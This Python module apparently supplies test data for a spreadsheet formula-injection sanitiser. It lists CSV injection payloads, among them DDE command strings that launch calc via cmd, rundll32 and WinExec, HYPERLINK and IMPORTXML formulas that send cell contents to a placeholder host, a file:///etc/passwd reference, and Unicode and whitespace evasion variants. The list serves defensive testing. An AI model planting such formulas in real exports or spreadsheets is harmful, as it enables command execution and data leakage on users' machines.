"""Texts that some spreadsheet, somewhere, has taken for a formula, a link, a command or the end of a cell."""

from __future__ import annotations

_PLAIN = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=",
    "+",
    "-",
    "@",
    "==1",
    "=A1",
    "-A1",
    "+A1*2",
    "=1+1;",
    "=SUM(A1:A9)",
    "=NOW()",
    "+447700900123",
    "-2+3+cmd",
]
_REACHING_OUT = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    '+HYPERLINK("http://example.invalid","click")',
    '=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")',
    '=IMPORTDATA("http://example.invalid")',
    '=IMAGE("http://example.invalid/a.png")',
    '=WEBSERVICE("http://example.invalid")',
    "=FILTERXML(A1,A2)",
    "='file:///etc/passwd'#$passwd.A1",
    '=RTD("a.b",,"c")',
    "=[book.xlsx]Sheet1!A1",
]
_COMMANDS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=CALL("kernel32","WinExec","JCJ","calc",0)',
    '=EXEC("calc")',
]
_BLANK_FIRST = [
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tplain",
    "\nplain",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    " \t -1",
    "\x0b=1",
    "\x0c@a",
]
_QUOTED = ["'=1+1", '"=1+1"', "''=1+1", "'@", "' =1", "‘=1+1", "“=1+1”", "`=1`", "'\ta"]
_ONLY_QUOTES = ["'", "''", '"', '","=1+1","', '";=1+1;"', "''", "a'=1"]
_OTHER_FORMS = [
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫a",
    "⁼1",
    "⁺1",
    "⁻1",
    "₌1",
    "−1+1",
    "⩵1",
    "⩶1",
    "﬩1",
    "₊1",
    "₋1",
]
_UNSEEN = [
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u200f+1",
    "\u2066@a",
    "\u00ad=1",
    "\x00=1+1",
    "\x01=1",
    "\x7f=1",
    "\x85=1",
    "\u2028=1+1",
    "\u2029=1+1",
    "\ufffe=1",
]
_NO_FORMULA = [
    "\x1b[31m=1",
    "http://example.invalid/",
    "mailto:a@example.invalid",
    "internal:Sheet1!A1",
    "external:book.xlsx",
    "file:///etc/passwd",
    "{=1+1}",
    "{=SUM(A1)}",
    "_x003D_1+1",
    "<f>1+1</f>",
    "<b>bold</b>",
    "]]>&amp;&#61;",
    "0044",
    "07700900123",
    "1e5",
    "TRUE",
    "#REF!",
    "1/2",
    "sep=;",
    "ID;P",
    "a\r\nb\rc",
    "a, b; c\td",
    "O'Neill",
    "Ann-Marie",
    "Siân",
    "名前",
    "🗳️",
]

BEGIN_LIKE_A_FORMULA = (
    *_PLAIN,
    *_REACHING_OUT,
    *_COMMANDS,
    *_BLANK_FIRST,
    *_QUOTED,
    *_OTHER_FORMS,
    *_UNSEEN,
)

PAYLOADS = tuple(dict.fromkeys((*BEGIN_LIKE_A_FORMULA, *_ONLY_QUOTES, *_NO_FORMULA)))

KEPT = ("O'Neill", "Ann-Marie", "Siân", "名前", "🗳️", "07700900123", "http://example.invalid/", "'", "5 - 6", "a=b", "")
"""Texts that no spreadsheet takes for anything else: they must not be touched."""
